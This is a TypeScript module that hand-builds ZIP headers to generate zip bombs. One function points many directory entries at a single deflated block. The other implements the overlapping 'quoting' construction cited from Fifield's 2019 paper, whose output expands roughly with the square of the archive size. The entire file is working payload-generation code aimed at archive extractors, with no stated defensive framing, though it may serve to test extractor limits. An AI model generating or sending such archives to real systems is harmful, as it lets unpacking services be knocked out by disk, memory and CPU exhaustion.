import { crc32, deflateRawSync } from 'node:zlib'

/** What a header and the directory say of an entry. */
interface Said {
  readonly name: string
  readonly packed: number
  readonly crc: number
  readonly size: number
}

/** One block under many names: each entry of the directory points to the same header. */
export function oneBlock(names: readonly string[], text: string): Buffer {
  const raw = Buffer.from(text)
  const body = deflateRawSync(raw, { level: 9 })
  const of = (name: string) => ({ name, packed: body.length, crc: crc32(raw), size: raw.length })
  const central = names.map((name) => centralHeader(of(name), 0))
  return closed([localHeader(of(names[0] ?? '')), body], central)
}

/**
 * Each entry holds the header of the next as a stored block, and all of them the one block at the end (D. Fifield, A better zip
 * bomb, 2019): what it unpacks to grows with the square of its length.
 */
export function quoting(names: readonly string[], text: string): Buffer {
  const raw = Buffer.from(text)
  const kernel = deflateRawSync(raw, { level: 9 })
  const last = { packed: kernel.length, crc: crc32(raw), size: raw.length }
  let said = last
  let plain: Buffer[] = [raw]
  const pieces: Buffer[] = [kernel]
  const central: { said: Said; length: number }[] = []
  for (const [i, name] of names.toReversed().entries()) {
    if (i > 0) {
      const header = pieces[0] ?? Buffer.alloc(0)
      pieces.unshift(storedBlock(header.length))
      plain = [header, ...plain]
      said = {
        packed: said.packed + QUOTE + header.length,
        crc: plain.reduce((crc, piece) => crc32(piece, crc), 0),
        size: said.size + header.length,
      }
    }
    const header = localHeader({ name, ...said })
    pieces.unshift(header)
    central.unshift({ said: { name, ...said }, length: header.length + QUOTE })
  }
  let at = 0
  const headers = central.map(({ said, length }) => {
    const header = centralHeader(said, at)
    at += length
    return header
  })
  return closed(pieces, headers)
}

const QUOTE = 5

function storedBlock(length: number): Buffer {
  const head = Buffer.alloc(QUOTE)
  head.writeUInt16LE(length, 1)
  head.writeUInt16LE(length ^ 0xffff, 3)
  return head
}

function localHeader({ name, packed, crc, size }: Said): Buffer {
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50, 0)
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(crc, 14)
  head.writeUInt32LE(packed, 18)
  head.writeUInt32LE(size, 22)
  head.writeUInt16LE(Buffer.byteLength(name), 26)
  return Buffer.concat([head, Buffer.from(name)])
}

function centralHeader({ name, packed, crc, size }: Said, at: number): Buffer {
  const head = Buffer.alloc(46)
  head.writeUInt32LE(0x02014b50, 0)
  head.writeUInt16LE(20, 6)
  head.writeUInt16LE(8, 10)
  head.writeUInt32LE(crc, 16)
  head.writeUInt32LE(packed, 20)
  head.writeUInt32LE(size, 24)
  head.writeUInt16LE(Buffer.byteLength(name), 28)
  head.writeUInt32LE(at, 42)
  return Buffer.concat([head, Buffer.from(name)])
}

function closed(bodies: readonly Buffer[], central: readonly Buffer[]): Buffer {
  const at = bodies.reduce((sum, body) => sum + body.length, 0)
  const directory = Buffer.concat(central)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(central.length, 8)
  end.writeUInt16LE(central.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(at, 16)
  return Buffer.concat([...bodies, directory, end])
}
